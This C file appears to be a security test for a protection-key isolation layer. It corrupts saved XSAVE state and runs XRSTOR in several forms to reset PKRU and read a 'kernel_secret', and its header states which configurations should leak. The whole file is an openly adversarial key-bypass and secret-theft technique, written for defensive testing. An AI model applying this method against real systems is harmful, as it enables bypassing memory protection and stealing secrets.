/* none: succeeds: secret; keys: succeeds: secret; full: fails "nothing stolen" */
#include "chance.h"

/*
 * XRSTOR in the program's own code, which is done without PKRU at full, with pieces of state that chance has changed: header, MXCSR, format,
 * what of it is asked for; and in places that are unaligned, end at a hole, or are not the program's. Only some of it is valid, and
 * of that some has PKRU in it.
 */
#define ATTEMPTS 300
#define LEGACY 512 /* bytes; the header follows */
#define STATE 2688 /* without PKRU */
#define PKRU_BYTE 1 /* of the header, where bit 9 is */
#define PKRU_BIT 2

/* With what tells that it is a function: elsewhere such bytes end the program. */
#define FORM(name, instructions) \
	__asm__(".pushsection .text\n.type " #name ", @function\n" #name ":\t.cfi_startproc\n\t" instructions "\n\tret\n\t.cfi_endproc\n" \
		".size " #name ", . - " #name "\n.popsection"); \
	extern const char name[];
FORM(plain, "xrstor (%rdi)")
FORM(wide, "xrstor64 (%rdi)")
FORM(behind, "xrstor64 64(%rdi)")
FORM(by_r12, "mov %rdi, %r12\n\txrstor64 (%r12)")
FORM(by_r13, "mov %rdi, %r13\n\txrstor64 (%r13)")
FORM(by_index, "mov $-64, %rsi\n\txrstor64 128(%rdi, %rsi, 2)")

static const char *const forms[] = { plain, wide, behind, by_r12, by_r13, by_index };
#define FORMS (sizeof forms / sizeof *forms)
static unsigned char area[2 * PAGE] __attribute__((aligned(PAGE)));

static void flip(unsigned char *byte)
{
	*byte = (unsigned char)(*byte ^ 1 << chance(8));
}

/* What ends where a mapping does. */
static unsigned char *at_the_end(const unsigned char *state)
{
	unsigned char *pages = map(2, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
	size_t size = 64 * (1 + chance(STATE / 64));

	munmap(pages + PAGE, PAGE);
	return memcpy(pages + PAGE - size, state, size);
}

static unsigned char *foreign_place(void)
{
	const uintptr_t places[] = { 0, 0x10000, 0xffffffffff600000, 0xffff800000000000, 0x7fffffffffff, 0x800000000000, 0xffffffffffffffc0,
				     at("kernel_stack"), at("user_page"), at("victim"), at("kernel_secret") & -64ul };

	return (unsigned char *)places[chance(sizeof places / sizeof *places)];
}

/* Changes the state, or says where else it is to be looked for. */
static unsigned char *changed(unsigned char *state)
{
	unsigned char *header = state + LEGACY;

	switch (chance(9)) {
	case 0:
		for (int i = 0; i < 4; i++)
			state[24 + i] = (unsigned char)chance(256); /* MXCSR */
		break;
	case 1:
		flip(header + chance(8)); /* XSTATE_BV */
		break;
	case 2:
		flip(header + 8 + chance(8)); /* XCOMP_BV */
		break;
	case 3:
		header[16 + chance(48)] = (unsigned char)chance(256);
		break;
	case 4:
		return state + chance(64);
	case 5:
		return foreign_place();
	case 6:
		return at_the_end(state);
	case 7:
		for (int i = 0; i < 30; i++)
			state[chance(STATE)] = (unsigned char)chance(256);
		break;
	default:
		memset(state + STATE, 0, 64);
		header[PKRU_BYTE] |= PKRU_BIT;
	}
	return state;
}

/* Restores, and takes the secret. The gate is entered then, with what floating point the compiler's code expects. */
static void steal_restored(const char *form, const unsigned char *state, uint32_t low, uint32_t high)
{
	register uint64_t from __asm__("r14") = at("kernel_secret"), gate __asm__("r15") = getauxval(AT_SYSINFO);
	const uint32_t mxcsr = 0x1f80;
	uint64_t words[2] = { 0 }, eax = low, none = 0, edx = high;

	__asm__ volatile("call *%[form]\n\tmov (%[from]), %%rdi\n\tmov 8(%[from]), %%rsi\n\t"
			 "mov %[getpid], %%eax\n\tlea 1f(%%rip), %%rcx\n\tjmp *%[gate]\n1:\tfninit\n\tldmxcsr %[mxcsr]"
			 : "=D"(words[0]), "=S"(words[1]), "+a"(eax), "+c"(none), "+d"(edx)
			 : [form] "b"(form), [from] "r"(from), [gate] "r"(gate), [getpid] "i"(SYS_getpid), [mxcsr] "m"(mxcsr), "D"(state)
			 : "memory", "r8", "r9", "r10", "r11", "r12", "r13", "cc");
	say("stolen: %.*s\n", SECRET, (char *)words);
	_exit(STOLEN);
}

static void attempt(int number)
{
	uint32_t low = chance(3) ? ~0u : chance(~0u), high = chance(3) ? 0 : ~0u;
	const char *form = forms[chance(FORMS)];
	unsigned char *state = area + LEGACY;

	(void)number;
	alarm(2);
	__asm__ volatile("xsave64 (%0)" : : "r"(state), "a"(~0u), "d"(0) : "memory");
	state = changed(state);
	steal_restored(form, form == behind ? state - 64 : state, low, high);
}

int main(void)
{
	attempts(attempt, ATTEMPTS);
	return 0;
}
